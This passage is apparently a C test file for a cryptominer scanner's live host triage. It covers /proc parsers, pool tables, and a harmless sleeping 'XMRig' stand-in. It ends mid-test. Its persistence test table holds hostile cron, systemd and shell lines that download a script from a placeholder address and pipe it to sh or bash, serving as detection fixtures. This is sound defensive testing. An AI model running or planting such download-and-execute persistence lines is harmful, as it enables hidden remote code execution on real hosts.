/*
 * test_live.c - --live host triage (issue 13).
 *
 *  - the parsers of /proc/net/tcp*, /proc/PID/{stat,status,maps}, the map
 *    choice, the pool host and port tables, /etc/hosts, ld.so.preload and
 *    the persistence line checks, on hostile and ordinary input;
 *  - the machine settings from a fake /proc and /sys;
 *  - a stand-in miner: a compiled program holding XMRig's strings that
 *    only waits, started with a pool command line, its file deleted once
 *    it runs, holding a TCP connection to a listener this test opens on
 *    127.0.0.1 (a pool port when one is free): its process record names
 *    the pid, the deleted executable, the command line's IOCs, the
 *    connection and the evidence, and is malicious; in jsonl, text and
 *    SARIF;
 *  - persistence and preload files written into a temporary root given
 *    with --live-root (cron, crontab, systemd, authorized_keys, a shell
 *    start-up file, ld.so.preload and its library, an immutable file, a
 *    symbolic link that points out of the root): flagged, the clean ones
 *    not, and nothing outside the root read;
 *  - a library preloaded into minerscan that filters readdir() of /proc,
 *    as libprocesshider does: the stand-in is still found, as hidden;
 *  - a run as user 65534: other users' processes are skipped, not errors,
 *    and the exit status is not 2.
 *
 * Nothing is ever mined or contacted: the stand-in only sleeps, the pool
 * host is a reserved name, every socket is on 127.0.0.1, and every
 * stand-in is killed and every file removed by the test's .fini.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "live_net.h"
#include "live_persist.h"
#include "live_proc.h"
#include "live_record.h"
#include "util.h"

/* ---- parsers ---- */

/* every test has a timeout far below its meson suite's (issue 15) */
TestSuite(live_host, .timeout = 120);
TestSuite(live_parse, .timeout = 60);
TestSuite(live_persist, .timeout = 120);
TestSuite(live_record, .timeout = 60);

Test(live_parse, socket_lines) {
    ms_sock s;
    cr_assert_eq(ms_sock_parse_line("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when "
                                    "retrnsmt   uid  timeout inode\n",
                                    false, "tcp", &s),
                 MS_E_CORRUPT, "the header is not a socket");
    cr_assert_eq(ms_sock_parse_line("   3: 0100007F:A1B2 0100007F:0D05 01 00000000:00000000 00:00000000 "
                                    "00000000     0        0 123456 1 0000000000000000 20 4 0 10 -1\n",
                                    false, "tcp", &s),
                 0);
    char l[64], r[64];
    ms_sock_format(s.laddr, s.v6, s.lport, l, sizeof(l));
    ms_sock_format(s.raddr, s.v6, s.rport, r, sizeof(r));
    cr_assert_str_eq(l, "127.0.0.1:41394");
    cr_assert_str_eq(r, "127.0.0.1:3333");
    cr_assert_eq(s.inode, 123456);
    cr_assert_str_eq(ms_sock_state_name(&s), "established");
    cr_assert(ms_sock_has_peer(&s));

    /* IPv6: four words in host order; ::1 is 0,0,0,0x01000000 */
    cr_assert_eq(ms_sock_parse_line("   0: 00000000000000000000000001000000:0D05 "
                                    "00000000000000000000000000000000:0000 0A 00000000:00000000 "
                                    "00:00000000 00000000  1000        0 777 1 0000000000000000 100 0 0 10 0\n",
                                    true, "tcp6", &s),
                 0);
    ms_sock_format(s.laddr, s.v6, s.lport, l, sizeof(l));
    cr_assert_str_eq(l, "[::1]:3333");
    cr_assert_str_eq(ms_sock_state_name(&s), "listen");
    cr_assert(!ms_sock_has_peer(&s));
    /* an IPv4-mapped address is shown as IPv4 */
    cr_assert_eq(ms_sock_parse_line("   0: 0000000000000000FFFF00000100007F:0D05 "
                                    "0000000000000000FFFF00000100007F:1F90 01 0:0 0:0 0 0 0 99\n",
                                    true, "tcp6", &s),
                 0);
    ms_sock_format(s.raddr, s.v6, s.rport, r, sizeof(r));
    cr_assert_str_eq(r, "127.0.0.1:8080");

    static const char *const bad[] = {
        "",
        "0:",
        "   0: 0100007F:0D05",
        "   0: 0100007G:0D05 0100007F:0D05 01 0:0 0:0 0 0 0 1",  /* not hex */
        "   0: 0100007F:0D05 0100007F:0D05 00 0:0 0:0 0 0 0 1",  /* state 0 */
        "   0: 0100007F:0D05 0100007F:0D05 0D 0:0 0:0 0 0 0 1",  /* state 13 */
        "   0: 0100007F:0D05 0100007F:0D05 01 0:0 0:0 0 0 0",    /* no inode */
        "   0: 0100007F:0D05 0100007F:0D05 01 0:0 0:0 0 0 0 99999999999999999999999",
        "   0: 0100007F 0100007F:0D05 01 0:0 0:0 0 0 0 1",
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        cr_assert_eq(ms_sock_parse_line(bad[i], false, "tcp", &s), MS_E_CORRUPT, "accepted: %s", bad[i]);
}

Test(live_parse, stat_and_status) {
    ms_proc_stat st;
    /* a name with spaces and ") (" in it: the fields start after the last ')' */
    const char *line = "4242 (evil) (x y) S 1 4242 4242 0 -1 4194560 100 0 0 0 250 50 0 0 20 0 1 0 "
                       "123456 1000000 200 18446744073709551615\n";
    cr_assert_eq(ms_proc_parse_stat(line, strlen(line), &st), 0);
    cr_assert_eq(st.pid, 4242);
    cr_assert_str_eq(st.comm, "evil) (x y");
    cr_assert_eq(st.state, 'S');
    cr_assert_eq(st.ppid, 1);
    cr_assert_eq(st.utime, 250);
    cr_assert_eq(st.stime, 50);
    cr_assert_eq(st.starttime, 123456);
    cr_assert_eq(ms_proc_parse_stat("12 (x) S 1", 10, &st), MS_E_CORRUPT, "fields missing");
    cr_assert_eq(ms_proc_parse_stat("12 x S 1", 8, &st), MS_E_CORRUPT);
    cr_assert_eq(ms_proc_parse_stat(") (", 3, &st), MS_E_CORRUPT);

    long uid;
    int tgid;
    const char *status = "Name:\tx\nTgid:\t77\nPid:\t78\nUid:\t1000\t1000\t1000\t1000\n";
    ms_proc_parse_status(status, strlen(status), &uid, &tgid);
    cr_assert_eq(uid, 1000);
    cr_assert_eq(tgid, 77);
    ms_proc_parse_status("Name:\tx\n", 8, &uid, &tgid);
    cr_assert_eq(uid, -1);
    cr_assert_eq(tgid, -1);
}

static ms_map map_of(const char *line) {
    ms_map m;
    cr_assert_eq(ms_map_parse_line(line, strlen(line), &m), 0, "%s", line);
    return m;
}

Test(live_parse, maps_and_choice) {
    ms_map m = map_of("7f0000001000-7f0000003000 r-xp 00002000 fe:01 12345   /tmp/my miner (deleted)\n");
    cr_assert_eq(m.start, 0x7f0000001000ULL);
    cr_assert_eq(m.end, 0x7f0000003000ULL);
    cr_assert_eq(m.offset, 0x2000);
    cr_assert_eq(m.dev_major, 0xfe);
    cr_assert_eq(m.inode, 12345);
    cr_assert_str_eq(m.path, "/tmp/my miner");
    cr_assert(m.deleted);
    cr_assert_eq(ms_map_choose(&m), MS_MAP_SCAN, "a deleted file exists nowhere else");
    ms_map_clear(&m);

    static const struct {
        const char *line;
        ms_map_choice want;
    } cases[] = {
        {"55d0c0000000-55d0c0021000 rw-p 00000000 00:00 0                          [heap]", MS_MAP_SCAN},
        {"7ffc00000000-7ffc00021000 rw-p 00000000 00:00 0                          [stack]", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 rw-p 00000000 00:00 0 ", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 rw-p 00000000 00:00 0   [anon:libc_malloc]", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 r-xp 00000000 00:01 9 /memfd:x (deleted)", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 rw-p 00021000 fe:01 9 /usr/lib/libc.so.6", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 r-xp 00021000 fe:01 9 /usr/lib/libc.so.6", MS_MAP_SKIP_FILE},
        {"7f0000000000-7f0000100000 rw-s 00000000 fe:01 9 /var/lib/db/data", MS_MAP_SKIP_FILE},
        {"7f0000000000-7f0000100000 rw-s 00000000 00:05 9 /dev/dri/card0", MS_MAP_SKIP_DEVICE},
        {"7f0000000000-7f0000100000 rw-s 00000000 00:01 9 /dev/zero (deleted)", MS_MAP_SCAN},
        {"7f0000000000-7f0000100000 rw-s 00000000 00:19 9 /dev/shm/x", MS_MAP_SKIP_FILE},
        {"7ffc0000e000-7ffc00012000 r--p 00000000 00:00 0                          [vvar]", MS_MAP_SKIP_KERNEL},
        {"7ffc00012000-7ffc00014000 r-xp 00000000 00:00 0                          [vdso]", MS_MAP_SKIP_KERNEL},
        {"ffffffffff600000-ffffffffff601000 --xp 00000000 00:00 0                  [vsyscall]",
         MS_MAP_SKIP_UNREADABLE},
        {"7f0000000000-7f0000100000 ---p 00000000 00:00 0 ", MS_MAP_SKIP_UNREADABLE},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        m = map_of(cases[i].line);
        cr_assert_eq(ms_map_choose(&m), cases[i].want, "%s", cases[i].line);
        ms_map_clear(&m);
    }
    static const char *const bad[] = {
        "", "7f00-", "7f00-7e00 r-xp 0 0:0 0", /* end before start */
        "7f00-7f10 r-x", "7f00-7f10 r-xp 0 fe 1", "7f00-7f10 r-xp 0 fe:01 x",
        "10000000000000000-10000000000000001 r-xp 0 0:0 0", /* 17 hex digits */
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        cr_assert_eq(ms_map_parse_line(bad[i], strlen(bad[i]), &m), MS_E_CORRUPT, "accepted: %s", bad[i]);
}

Test(live_parse, pool_tables) {
    cr_assert_gt(ms_pool_ports_n, 3, "pools.yar.in's ports became the table");
    cr_assert(ms_pool_port(3333));
    cr_assert(ms_pool_port(14444));
    cr_assert(!ms_pool_port(22));
    cr_assert(!ms_pool_port(443));
    for (size_t i = 1; i < ms_pool_ports_n; i++)
        cr_assert_lt(ms_pool_ports[i - 1], ms_pool_ports[i], "the table is sorted");
    cr_assert(ms_pool_host_known("supportxmr.com", 14));
    cr_assert(ms_pool_host_known("POOL.SupportXMR.com.", 20), "a subdomain, any case, a root dot");
    cr_assert(!ms_pool_host_known("notsupportxmr.com", 17), "only at a label boundary");
    cr_assert(!ms_pool_host_known("supportxmr.com.evil.example", 27));
    cr_assert(!ms_pool_host_known("example.com", 11));
    cr_assert(!ms_pool_host_known("", 0));

    const char *hosts = "127.0.0.1 localhost\n"
                        "# 10.0.0.1 supportxmr.com\n"
                        "192.0.2.9\tpool.supportxmr.com alias\n"
                        "2001:db8::1 xmr.nanopool.org\n"
                        "not-an-address supportxmr.com\n"
                        "198.51.100.1 example.net # c3pool.com\n";
    ms_pool_addr *a = NULL;
    size_t n = 0;
    cr_assert_eq(ms_hosts_pool_addrs((const uint8_t *)hosts, strlen(hosts), &a, &n), 0);
    cr_assert_eq(n, 2, "only real lines naming pool hosts");
    cr_assert_str_eq(a[0].name, "pool.supportxmr.com");
    static const uint8_t v4[16] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 192, 0, 2, 9};
    cr_assert_arr_eq(a[0].addr, v4, 16);
    cr_assert_str_eq(a[1].name, "xmr.nanopool.org");
    free(a);
}

Test(live_parse, preload_names) {
    const char *t = "# hidden\n/usr/local/lib/libhide.so /lib/a.so:/lib/b.so\n\n  /lib/c.so#x\n";
    char **v = NULL;
    size_t n = 0;
    cr_assert_eq(ms_preload_parse((const uint8_t *)t, strlen(t), &v, &n), 0);
    cr_assert_eq(n, 4);
    cr_assert_str_eq(v[0], "/usr/local/lib/libhide.so");
    cr_assert_str_eq(v[1], "/lib/a.so");
    cr_assert_str_eq(v[2], "/lib/b.so");
    cr_assert_str_eq(v[3], "/lib/c.so");
    for (size_t i = 0; i < n; i++)
        free(v[i]);
    free(v);
}

/* ---- persistence line checks ---- */

typedef struct line_case {
    ms_persist_syntax syn;
    const char *text;
    bool tmp, pipe;
} line_case;

static const line_case line_cases[] = {
    /* flagged */
    {MS_SYN_CRON_USER, "*/5 * * * * /tmp/.x/kworker >/dev/null 2>&1\n", true, false},
    {MS_SYN_CRON_USER, "@reboot /dev/shm/.k -c /dev/shm/.k.json\n", true, false},
    {MS_SYN_CRON_SYSTEM, "*/10 * * * * root curl -fsSL http://198.51.100.7/a.sh | sh\n", false, true},
    {MS_SYN_CRON_SYSTEM, "* * * * * root (wget -q -O- http://198.51.100.7/a | /bin/bash) >/dev/null\n", false, true},
    {MS_SYN_CRON_USER, "* * * * * cd /var/tmp && ./.kx\n", true, false},
    {MS_SYN_CRON_USER, "* * * * * sh -c \"$(curl -fsSL http://198.51.100.7/x)\"\n", false, true},
    {MS_SYN_CRON_USER, "* * * * * nohup sudo /var/tmp/x &\n", true, false},
    {MS_SYN_SYSTEMD, "[Service]\nExecStart=/dev/shm/.s/helper -o pool:3333\n", true, false},
    {MS_SYN_SYSTEMD, "[Service]\nExecStartPre=-/bin/sh -c '/tmp/.d/i'\n", true, false},
    {MS_SYN_SYSTEMD, "[Service]\nExecStart=/bin/bash -c 'curl -s http://198.51.100.7/k | bash'\n", false, true},
    {MS_SYN_SHELL, "#!/bin/sh\nexport A=1\n(/tmp/.x/run &)\n", true, false},
    {MS_SYN_SHELL, "wget -qO- http://198.51.100.7/i | sudo bash\n", false, true},
    {MS_SYN_SHELL, "curl http://198.51.100.7/i | tee /tmp/log | sh\n", false, true},
    {MS_SYN_SHELL, "eval \"$(wget -qO- http://198.51.100.7/i)\"\n", false, true},
    {MS_SYN_AUTHKEYS, "command=\"/var/tmp/.k/run\",no-pty ssh-ed25519 AAAAC3Nz test\n", true, false},
    {MS_SYN_DESKTOP, "[Desktop Entry]\nExec=/tmp/.cache/upd\n", true, false},
    /* not flagged: ordinary lines of a clean system */
    {MS_SYN_CRON_SYSTEM,
     "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
     "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
     false, false},
    {MS_SYN_CRON_SYSTEM, "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", false, false},
    {MS_SYN_CRON_USER, "# */5 * * * * /tmp/x\n", false, false},
    {MS_SYN_CRON_USER, "SHELL=/tmp/x\nMAILTO=root\n", false, false},
    {MS_SYN_SHELL, "rm -f /tmp/foo.lock\n[ -x /tmp/x ] && echo present\n", false, false},
    {MS_SYN_SHELL, "curl -o /var/tmp/file http://198.51.100.7/f && sha256sum /var/tmp/file\n", false, false},
    {MS_SYN_SHELL, "curl http://198.51.100.7/list | grep x; sh ./local.sh\n", false, false},
    {MS_SYN_SHELL, "# curl http://198.51.100.7/i | sh\n", false, false},
    {MS_SYN_SHELL, "TMPDIR=/tmp/build make\n", false, false},
    {MS_SYN_SYSTEMD, "[Service]\nExecStart=/usr/sbin/cron -f\nPrivateTmp=yes\nEnvironment=X=/tmp/y\n", false,
     false},
    {MS_SYN_AUTHKEYS, "ssh-ed25519 AAAAC3Nz /tmp/comment\n", false, false},
    {MS_SYN_PRELOAD, "/tmp/evil.so\n", false, false},
};

Test(live_persist, line_checks) {
    for (size_t i = 0; i < sizeof(line_cases) / sizeof(line_cases[0]); i++) {
        const line_case *c = &line_cases[i];
        ms_live_info *li = NULL;
        cr_assert_eq(ms_live_info_new(MS_LIVE_PERSISTENCE, &li), 0);
        cr_assert_eq(ms_persist_check_lines(c->syn, (const uint8_t *)c->text, strlen(c->text), li), 0);
        cr_assert_eq(ms_live_has_evidence(li, "runs_from_tmp"), c->tmp, "runs_from_tmp %s on: %s",
                     c->tmp ? "missed" : "wrongly", c->text);
        cr_assert_eq(ms_live_has_evidence(li, "download_pipe"), c->pipe, "download_pipe %s on: %s",
                     c->pipe ? "missed" : "wrongly", c->text);
        if (li->n_ev)
            cr_assert(strstr(li->ev[0].text, "line "), "the evidence names the line: %s", li->ev[0].text);
        ms_live_info_free(li);
    }
}

Test(live_persist, hostile_lines) {
    /* a megabyte of separators, quotes and "$(" cannot make the checks
     * run long or read past the end */
    size_t n = 1u << 20;
    char *b = malloc(n);
    cr_assert_not_null(b);
    static const char pat[] = "$(`|;\"'\\ /tmp/";
    for (size_t i = 0; i < n; i++)
        b[i] = pat[i % (sizeof(pat) - 1)];
    b[n / 2] = '\n';
    for (int syn = MS_SYN_SHELL; syn <= MS_SYN_BINARY; syn++) {
        ms_live_info *li = NULL;
        cr_assert_eq(ms_live_info_new(MS_LIVE_PERSISTENCE, &li), 0);
        cr_assert_eq(ms_persist_check_lines((ms_persist_syntax)syn, (const uint8_t *)b, n, li), 0);
        ms_live_info_free(li);
    }
    free(b);
}

Test(live_persist, passwd) {
    const char *t = "root:x:0:0:root:/root:/bin/bash\nbad line\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n"
                    "x:x:notanumber:0::/home/x:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash";
    ms_passwd *pw = NULL;
    size_t n = 0;
    cr_assert_eq(ms_passwd_parse((const uint8_t *)t, strlen(t), &pw, &n), 0);
    cr_assert_eq(n, 3);
    cr_assert_str_eq(ms_passwd_name(pw, n, 0), "root");
    cr_assert_str_eq(ms_passwd_name(pw, n, 1000), "alice");
    cr_assert_str_eq(pw[2].home, "/home/alice");
    cr_assert_null(ms_passwd_name(pw, n, 5));
    ms_passwd_free(pw, n);
}

/* ---- the machine ---- */

Test(live_host, settings_from_proc_and_sys) {
    char *dir = t_mkdtemp();
    cr_assert_not_null(dir);
    free(t_write_str(dir, "proc/sys/vm/nr_hugepages", "1280\n"));
    free(t_write_str(dir, "proc/sys/kernel/nmi_watchdog", "0\n"));
    free(t_write_str(dir, "proc/sys/kernel/hostname", "box\n"));
    free(t_write_str(dir, "proc/sys/kernel/osrelease", "6.1.0-test\n"));
    free(t_write_str(dir, "proc/modules", "nf_tables 1 0 - Live 0x0\nmsr 16384 0 - Live 0x0\n"));
    char *proc = t_path(dir, "proc"), *sys = t_path(dir, "sys");
    ms_live_info *li = NULL;
    cr_assert_eq(ms_live_info_new(MS_LIVE_HOST, &li), 0);
    cr_assert_eq(ms_host_collect(proc, sys, li), 0);
    cr_assert_eq(li->nr_hugepages, 1280);
    cr_assert_eq(li->nmi_watchdog, 0);
    cr_assert_eq(li->msr_loaded, 1);
    cr_assert_str_eq(li->hostname, "box");
    cr_assert_str_eq(li->kernel, "6.1.0-test");
    cr_assert(ms_live_has_evidence(li, "hugepages"));
    cr_assert(ms_live_has_evidence(li, "msr_module"));
    cr_assert(ms_live_has_evidence(li, "nmi_watchdog_off"));
    ms_verdict *v = NULL;
    v = ms_verdict_new("host:box", 8);
    v->live = li;
    cr_assert_eq(ms_live_policy(v), MS_SUSPICIOUS, "huge pages and msr together: two lows");
    ms_verdict_free(v);

    /* a database host: huge pages alone, nmi_watchdog on, no msr */
    free(t_write_str(dir, "proc/sys/kernel/nmi_watchdog", "1\n"));
    free(t_write_str(dir, "proc/modules", "nf_tables 1 0 - Live 0x0\n"));
    li = NULL;
    cr_assert_eq(ms_live_info_new(MS_LIVE_HOST, &li), 0);
    cr_assert_eq(ms_host_collect(proc, sys, li), 0);
    cr_assert_eq(li->msr_loaded, 0);
    cr_assert(!ms_live_has_evidence(li, "nmi_watchdog_off"));
    v = ms_verdict_new("host:db", 7);
    v->live = li;
    cr_assert_eq(ms_live_policy(v), MS_CLEAN, "huge pages alone are not a finding");
    ms_verdict_free(v);
    free(proc);
    free(sys);
    t_rmtree(dir);
    free(dir);
}

Test(live_record, evidence_table_and_policy) {
    size_t n;
    const ms_live_code *c = ms_live_codes(&n);
    for (size_t i = 0; i < n; i++) {
        cr_assert(!strcmp(c[i].severity, "high") || !strcmp(c[i].severity, "medium") ||
                      !strcmp(c[i].severity, "low") || !strcmp(c[i].severity, "info"),
                  "%s", c[i].code);
        cr_assert(*c[i].description && *c[i].category);
        for (size_t k = 0; k < i; k++)
            cr_assert_str_neq(c[i].code, c[k].code);
    }
    ms_verdict *v = NULL;
    v = ms_verdict_new("/proc/1", 7);
    cr_assert_eq(ms_live_info_new(MS_LIVE_PROCESS, &v->live), 0);
    cr_assert_eq(ms_live_add_evidence(v->live, "no_such_code", "x"), -EINVAL);
    cr_assert_eq(ms_live_add_evidence(v->live, "exe_deleted", "a"), 0);
    cr_assert_eq(ms_live_policy(v), MS_CLEAN, "one low");
    cr_assert_eq(ms_live_add_evidence(v->live, "exe_deleted", "again"), 0);
    cr_assert_eq(v->live->n_ev, 1, "a code is added once");
    cr_assert_eq(ms_live_add_evidence(v->live, "exe_in_tmp", "b"), 0);
    cr_assert_eq(ms_live_policy(v), MS_SUSPICIOUS, "two lows");
    cr_assert_eq(ms_live_add_evidence(v->live, "hidden_process", "c"), 0);
    cr_assert_eq(ms_live_policy(v), MS_MALICIOUS, "high");
    ms_verdict_free(v);
}

/* ---- a stand-in miner ---- */

/* The stand-in: XMRig's strings in .rodata (the xmrig_strings fixture of
 * test_signatures.c), a mapping that starts like a zip archive but is
 * not one, a second thread (whose id must not look like a hidden
 * process), then it writes its thread's id to fd 3 and waits for SIGKILL.
 * It computes and sends nothing. */
static const char standin_src[] =
    "#include <pthread.h>\n#include <signal.h>\n#include <stdio.h>\n#include <string.h>\n"
    "#include <sys/mman.h>\n#include <sys/syscall.h>\n#include <unistd.h>\n"
    "static const char *const s[] = {\"XMRig\", \"xmrig.com\", \"donate-over-proxy\",\n"
    "  \"enable nicehash.com support\", \"cn-lite/0\"};\n"
    "static int p[2];\n"
    "static void *th(void *a) { (void)a; int tid = (int)syscall(SYS_gettid);\n"
    "  if (write(p[1], &tid, sizeof(tid)) < 0) return NULL; for (;;) pause(); }\n"
    "int main(int argc, char **argv) {\n"
    "  (void)argv; if (argc > 99) for (unsigned i = 0; i < 5; i++) puts(s[i]);\n"
    /* a mapping that starts like a zip and is not one: memory is full of
     * such fragments, and they must not make the scan incomplete */
    "  char *m = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n"
    "  if (m == MAP_FAILED) return 1;\n"
    "  memcpy(m, \"PK\\003\\004\\024\\000\\000\\000\\010\\000\", 10);\n"
    "  memset(m + 30, 0x5a, 4096); memcpy(m + 26, \"\\377\\377\\377\\377\", 4);\n"
    "  pthread_t t; if (pipe(p) || pthread_create(&t, NULL, th, NULL)) return 1;\n"
    "  int tid; if (read(p[0], &tid, sizeof(tid)) != sizeof(tid)) return 1;\n"
    "  if (write(3, &tid, sizeof(tid)) != sizeof(tid)) return 1; close(3);\n"
    "  for (;;) pause();\n}\n";

typedef struct standin {
    char *dir;        /* its directory, removed at the end */
    char *path;       /* the deleted program's path */
    char *lib;        /* a library preloaded into it, or NULL */
    pid_t pid;
    int tid;          /* its second thread */
    unsigned port;    /* the listener's port */
    bool pool_port;   /* port is one of the pool ports */
    int listener, accepted;
    char wallet[128];
    char pool[128];
} standin;

static standin S = {.pid = -1, .listener = -1, .accepted = -1};

/* A listener on 127.0.0.1: the first free pool port, else any port. */
static int listen_local(unsigned *ret_port, bool *ret_pool) {
    for (size_t i = 0; i <= ms_pool_ports_n; i++) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        cr_assert_geq(fd, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
                                .sin_port = htons(i < ms_pool_ports_n ? ms_pool_ports[i] : 0)};
        if (bind(fd, (struct sockaddr *)&a, sizeof(a)) == 0 && listen(fd, 4) == 0) {
            socklen_t l = sizeof(a);
            getsockname(fd, (struct sockaddr *)&a, &l);
            *ret_port = ntohs(a.sin_port);
            *ret_pool = i < ms_pool_ports_n;
            return fd;
        }
        close(fd);
    }
    cr_assert_fail("no port on 127.0.0.1 could be bound");
    return -1;
}

/* A library with the strings of XMRig's GPU plugin (the xmrig_gpu_plugin
 * fixture of test_signatures.c), preloaded into the stand-in as a miner
 * built as a .so would be into a legitimate program. */
static const char plugin_src[] =
    "const char *const ms_plugin[] = {\"xmrig-cuda\", \"pluginVersion\", \"rxPrepare\", \"cnHash\",\n"
    "  \"cudaMalloc\", \"nvrtcCompileProgram\"};\n";

/* Start the stand-in: compile it, run it with a pool command line and a
 * connection to our listener (and, with preload, a library preloaded),
 * wait until it runs, delete its file. */
static void standin_start_with(const char *dirname, bool preload) {
    if (!t_have_program("cc"))
        cr_skip_test("cc is not installed: cannot build the stand-in");
    S.dir = t_mkdtemp();
    cr_assert_not_null(S.dir);
    char *sub = t_path(S.dir, dirname);
    cr_assert_eq(mkdir(sub, 0755), 0);
    chmod(S.dir, 0755);
    S.path = t_path(sub, "xmrig");
    free(sub);
    cr_assert_eq(t_compile("cc", standin_src, S.path, "-pthread"), 0, "compiling the stand-in");
    if (preload) {
        S.lib = t_path(S.dir, "libgpu.so");
        cr_assert_eq(t_compile("cc", plugin_src, S.lib, "-shared -fPIC"), 0, "compiling the plugin");
    }

    S.listener = listen_local(&S.port, &S.pool_port);
    int c = socket(AF_INET, SOCK_STREAM, 0); /* not CLOEXEC: the stand-in keeps it */
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
                            .sin_port = htons((uint16_t)S.port)};
    cr_assert_eq(connect(c, (struct sockaddr *)&a, sizeof(a)), 0, "connect: %s", strerror(errno));
    S.accepted = accept4(S.listener, NULL, NULL, SOCK_CLOEXEC);
    cr_assert_geq(S.accepted, 0);

    t_make_xmr(18, false, S.wallet, sizeof(S.wallet));
    snprintf(S.pool, sizeof(S.pool), "stratum+tcp://pool.example.net:%u", S.port);
    int ready[2];
    cr_assert_eq(pipe2(ready, O_CLOEXEC), 0);
    /* posix_spawn, not fork: a Criterion test process has threads, and a
     * forked child can hang on a lock one of them held (issue 15) */
    char pre[4200];
    snprintf(pre, sizeof(pre), "LD_PRELOAD=%s", S.lib ? S.lib : "");
    char *const envp[] = {"PATH=/usr/bin:/bin", S.lib ? pre : NULL, NULL};
    char *const argv[] = {S.path, "-o", S.pool, "-u", S.wallet, "--donate-level", "1", NULL};
    posix_spawn_file_actions_t fa;
    posix_spawn_file_actions_init(&fa);
    posix_spawn_file_actions_adddup2(&fa, ready[1], 3);
    if (c != 4)
        posix_spawn_file_actions_adddup2(&fa, c, 4);
    pid_t pid = -1;
    int e = posix_spawn(&pid, S.path, &fa, NULL, argv, envp);
    posix_spawn_file_actions_destroy(&fa);
    cr_assert_eq(e, 0, "spawn the stand-in: %s", strerror(e));
    S.pid = pid;
    close(c);
    close(ready[1]);
    struct pollfd pf = {.fd = ready[0], .events = POLLIN};
    cr_assert_eq(poll(&pf, 1, 30000), 1, "the stand-in did not start");
    cr_assert_eq(read(ready[0], &S.tid, sizeof(S.tid)), (ssize_t)sizeof(S.tid), "the stand-in did not report");
    close(ready[0]);
    cr_assert_eq(unlink(S.path), 0, "deleting the running stand-in");
}

static void standin_start(const char *dirname) {
    standin_start_with(dirname, false);
}

static void standin_stop(void) {
    if (S.pid > 0) {
        kill(S.pid, SIGKILL);
        waitpid(S.pid, NULL, 0);
        S.pid = -1;
    }
    if (S.accepted >= 0)
        close(S.accepted);
    if (S.listener >= 0)
        close(S.listener);
    S.accepted = S.listener = -1;
    if (S.dir) {
        t_rmtree(S.dir);
        free(S.dir);
        S.dir = NULL;
    }
    free(S.path);
    free(S.lib);
    S.path = S.lib = NULL;
}

/* A temporary root for --live-root, readable by every user. */
static char *R;

static void live_fini(void) {
    standin_stop();
    if (R) {
        /* an immutable file cannot be removed until the flag is cleared */
        char *f = t_path(R, "etc/cron.d/fetch");
        int fd = open(f, O_RDONLY | O_NONBLOCK);
        if (fd >= 0) {
            int fl = 0;
            ioctl(fd, FS_IOC_SETFLAGS, &fl);
            close(fd);
        }
        free(f);
        t_rmtree(R);
        free(R);
        R = NULL;
    }
}

static void make_root(void) {
    R = t_mkdtemp();
    cr_assert_not_null(R);
    chmod(R, 0755);
}

static const char *str(json_t *o, const char *k) {
    return json_string_value(json_object_get(o, k));
}

/* The record of the given type whose key "pid" or "path" matches. */
static json_t *find_typed(json_t *recs, const char *type, const char *path, long pid) {
    size_t i;
    json_t *r;
    json_array_foreach(recs, i, r) {
        const char *t = str(r, "type");
        if (!t || strcmp(t, type))
            continue;
        if (path && str(r, "path") && !strcmp(str(r, "path"), path))
            return r;
        if (pid > 0 && json_integer_value(json_object_get(r, "pid")) == pid)
            return r;
    }
    return NULL;
}

static bool has_evidence(json_t *rec, const char *code) {
    size_t i;
    json_t *e;
    json_array_foreach(json_object_get(rec, "evidence"), i, e) {
        if (str(e, "code") && !strcmp(str(e, "code"), code))
            return true;
    }
    return false;
}

static bool str_in(json_t *arr, const char *s) {
    size_t i;
    json_t *e;
    json_array_foreach(arr, i, e) {
        if (json_string_value(e) && !strcmp(json_string_value(e), s))
            return true;
    }
    return false;
}

/* minerscan --live with extra arguments; the run's records. */
static json_t *live_run(t_result *res, const char *const *extra, size_t n_extra, const char *root) {
    const char *argv[32];
    size_t n = 0;
    argv[n++] = t_minerscan_path();
    argv[n++] = "--live";
    argv[n++] = "--live-root";
    argv[n++] = root;
    argv[n++] = "-f";
    argv[n++] = "jsonl";
    for (size_t i = 0; i < n_extra; i++)
        argv[n++] = extra[i];
    argv[n] = NULL;
    cr_assert_eq(t_run(argv, NULL, 240, res), 0);
    json_t *recs = t_jsonl(res->out);
    cr_assert_not_null(recs, "not JSON Lines:\n%s\nstderr:\n%s", res->out, res->err);
    return recs;
}

Test(live, miner_standin_process_record, .fini = live_fini, .timeout = 300) {
    standin_start_with("work", true);
    make_root();
    t_result res;
    json_t *recs = live_run(&res, NULL, 0, R);
    cr_assert_eq(res.status, 1, "a finding exits 1; stderr:\n%s", res.err);

    json_t *p = find_typed(recs, "process", NULL, S.pid);
    cr_assert_not_null(p, "no process record for the stand-in (pid %d):\n%s", (int)S.pid, res.out);
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d", (int)S.pid);
    cr_assert_str_eq(str(p, "path"), path);
    cr_assert_str_eq(str(p, "verdict"), "malicious");
